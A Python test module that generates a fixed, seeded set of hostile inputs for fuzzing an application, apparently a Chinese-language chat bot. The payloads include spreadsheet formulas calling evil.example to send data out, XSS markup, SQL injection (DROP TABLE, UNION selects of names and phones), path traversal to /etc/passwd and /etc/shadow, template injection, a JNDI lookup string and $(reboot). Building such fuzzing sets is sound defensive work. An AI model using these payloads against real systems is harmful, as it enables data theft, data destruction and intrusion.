"""Inputs that are meant to do harm, made from families of known tricks; the same ones every time."""

import random
from collections.abc import Iterator, Sequence
from itertools import product

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|'!A0",
    "@SUM(1+1)*cmd|'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"张伟")',
    '=WEBSERVICE("https://evil.example")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src=javascript:alert(1)>',
    "</textarea><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>点我</a>",
    "<style>*{display:none}</style>",
    "<!--<b>-->",
    "<b>粗</b><i>斜",
    "&lt;b&gt;&amp;&#60;script&#62;",
    "<form action=https://evil.example><button>",
    "<base href=https://evil.example>",
    "' onmouseover=\"alert(1)",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "]]><![CDATA[<x>",
)
MARKDOWN = (
    "*粗* _斜_ `码` ~删~",
    "[点我](https://evil.example)",
    "![图](https://evil.example/x.png)",
    "**未完",
    "_*[]()~`>#+-=|{}.!",
    "```\n代码",
    "||剧透||",
    "[x](tg://user?id=1)",
    "<tg-spoiler>x</tg-spoiler>",
    "> 引用\n# 标题",
)
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE candidate; --",
    '" OR ""="',
    "1); DELETE FROM audit; --",
    "admin'--",
    "' UNION SELECT name, phone FROM candidate --",
    "\\'; SELECT pg_sleep(10); --",
    "%' AND 1=0 UNION SELECT null --",
    "x' || randomblob(1000000000) || '",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//secret_key",
    "C:\\data\\secret_key",
    "//evil.example/share",
    "con.txt",
)
HEADERS = (
    "x\r\nSet-Cookie: hurentong=1",
    "x\nLocation: https://evil.example",
    "x%0d%0aX-Evil: 1",
    "Subject: 评价(2025)\r\nBcc: evil@example.org",
    "x\u2028X-Evil: 1",
    "x\u0085X-Evil: 1",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{name}",
    "{0.__class__.__init__.__globals__}",
    "%(name)s",
    "%s%s%s%n",
    "$(reboot)",
    "`reboot`",
    "${jndi:ldap://evil.example/a}",
    "{question}{secretariat}",
)
UNICODE = (
    "\u202etxt.exe\u202c",
    "\u2066隐\u2069",
    "张\u200b伟",
    "\ufeff张伟",
    "a\u0301\u0301\u0301" * 10,
    "Z̸̡̢̛͍͎̫̮͖̤͚͓̪̩̮̱̙̝͊̍̈́͂̍̄̀̋͒̈̂",
    "👨\u200d👩\u200d👧\u200d👦" * 5,
    "𠮷𡈽𨋢",
    "\u0000abc",
    "\x1b[31m红\x1b[0m",
    "\x07\x08\x0b\x0c",
    "﷽" * 20,
    "\U000e0041\U000e0042",
    "ﷺ١٢٣",
    "\ufffe\uffff",
    "\ue000\uf8ff",
)
OVERSIZED = ("长" * 5000, "a" * 20000, "\n" * 3000, "1" * 4000, "👍" * 2500, " " * 9000 + "x", "<b>" * 3000)
ODD = (
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e309",
    "9" * 400,
    "true",
    "[]",
    "{}",
    '{"text": {"$ne": null}}',
    "[object Object]",
    "0x7fffffff",
    "١٢٣٤",
    "--",
    "...",
    "\\",
    '"',
    "'",
    "/",
    "/../",
    "/start@evil_bot x",
    "//",
    "/" + "a" * 100,
    "/export' --",
    "/join " + "A" * 300,
    "/lang ../../zh",
    "/edit __class__",
)

FAMILIES: Sequence[Sequence[str]] = (
    *(FORMULAS, MARKUP, MARKDOWN, SQL, PATHS, HEADERS, TEMPLATES, UNICODE, OVERSIZED, ODD),
)
_AROUND = ("{}", "我叫{}", "{}谢谢", "  {}  ", "{}\n{}", "“{}”", "项目：{}（在建）", "{}\u200b", "\u202e{}", "{}'\"<>&")


def attacks(wanted: int) -> list[str]:
    """That many different inputs: every trick as it is first, then in company, then two of different families."""
    found: dict[str, None] = {}
    for each in _made():
        found.setdefault(each)
        if len(found) == wanted:
            break
    return list(found)


def _made() -> Iterator[str]:
    every = [each for family in FAMILIES for each in family]
    yield from every
    short = [each for each in every if len(each) < 500]
    yield from (around.replace("{}", each) for around, each in product(_AROUND, short))
    chance = random.Random(17)  # noqa: S311 - the same attacks every time
    while True:
        one, other = chance.sample(FAMILIES, 2)
        yield chance.choice(one)[:400] + chance.choice(("", " ", "\n", "，")) + chance.choice(other)[:400]
